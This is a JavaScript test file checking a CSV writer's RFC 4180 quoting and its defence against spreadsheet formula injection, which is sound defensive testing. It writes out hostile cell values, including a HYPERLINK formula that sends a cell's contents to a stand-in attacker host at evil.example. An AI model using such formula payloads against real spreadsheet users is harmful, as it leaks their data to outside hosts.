import { describe, expect, it } from "vitest";
import { parseCsv, parseCsvRecords, toCsv } from "../../src/curation/csv.js";
import { createTestApp, makeTempDir } from "./helpers.js";

describe("CSV (RFC 4180)", () => {
  it("quotes fields with commas, quotes and line breaks, and reads them back", () => {
    const rows = [
      ["1", "semplice", ""],
      ["2", 'con "virgolette", e virgola', "due\nrighe"],
      ["3", "a capo\r\nwindows", "€ 1.000,00"],
    ];
    const csv = toCsv(["id", "testo", "note"], rows);
    expect(csv).toBe(
      'id,testo,note\r\n1,semplice,\r\n2,"con ""virgolette"", e virgola","due\nrighe"\r\n3,"a capo\r\nwindows","€ 1.000,00"\r\n',
    );
    expect(parseCsv(csv)).toEqual([["id", "testo", "note"], ...rows]);
  });

  it("writes null as an empty field and numbers as text", () => {
    expect(toCsv(["a", "b"], [[null, 3]])).toBe("a,b\r\n,3\r\n");
  });

  it("accepts LF line endings, a BOM and a last line without a break", () => {
    expect(parseCsv("\uFEFFa,b\nc,d")).toEqual([
      ["a", "b"],
      ["c", "d"],
    ]);
  });

  it("rejects what it cannot read unambiguously", () => {
    expect(() => parseCsv('a,"b\n')).toThrow(/virgoletta aperta alla riga 1/);
    expect(() => parseCsv('a,b"c\n')).toThrow(/riga 1: virgoletta in mezzo/);
    expect(() => parseCsv('a,"b"c\n')).toThrow(/riga 1: dopo una virgoletta di chiusura/);
    expect(() => parseCsvRecords("a,b\n1,2,3\n", ["a"])).toThrow(/record 1 ha 3 campi invece di 2/);
  });
});

describe("CSV formula injection (OWASP)", () => {
  it("writes text a spreadsheet would run as a formula with a leading apostrophe", () => {
    const hostile = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
    const csv = toCsv(
      ["testo"],
      hostile.map((h) => [h]),
    );
    expect(csv).toContain("'=HYPERLINK");
    expect(csv).toContain("\r\n'+1+1\r\n'-2+3\r\n'@SUM(A1)\r\n'\tcmd\r\n\"'\rcmd\"");
    expect(
      parseCsv(csv)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(hostile);
  });

  it("leaves ordinary text and numbers alone and reads back apostrophes it did not add", () => {
    const rows = [["Legge 68/99", -5, "'citazione'", "'=già protetto"]];
    const csv = toCsv(["a", "b", "c", "d"], rows);
    expect(csv).toBe("a,b,c,d\r\nLegge 68/99,-5,'citazione',''=già protetto\r\n");
    expect(parseCsv(csv)[1]).toEqual(["Legge 68/99", "-5", "'citazione'", "'=già protetto"]);
  });
});

describe("the unanswered CSV of a real store", () => {
  it("does not hand a spreadsheet a formula typed as a question", async () => {
    const env = createTestApp(makeTempDir());
    try {
      const formula = '=HYPERLINK("http://evil.example/?q="&A1;"Clicca")';
      const outcome = await env.app.ask({ text: formula, channel: "telegram", userId: "1001" });
      expect(outcome.kind).toBe("declined");
      await env.app.ask({ text: "@SUM(1+1) la stampante?", channel: "telegram", userId: "1002" });
      const csv = env.app.curation.unansweredCsv();
      const cells = parseCsv(csv).flat();
      expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
      for (const line of csv.split("\r\n")) {
        expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
      }
    } finally {
      await env.cleanup();
    }
  });
});
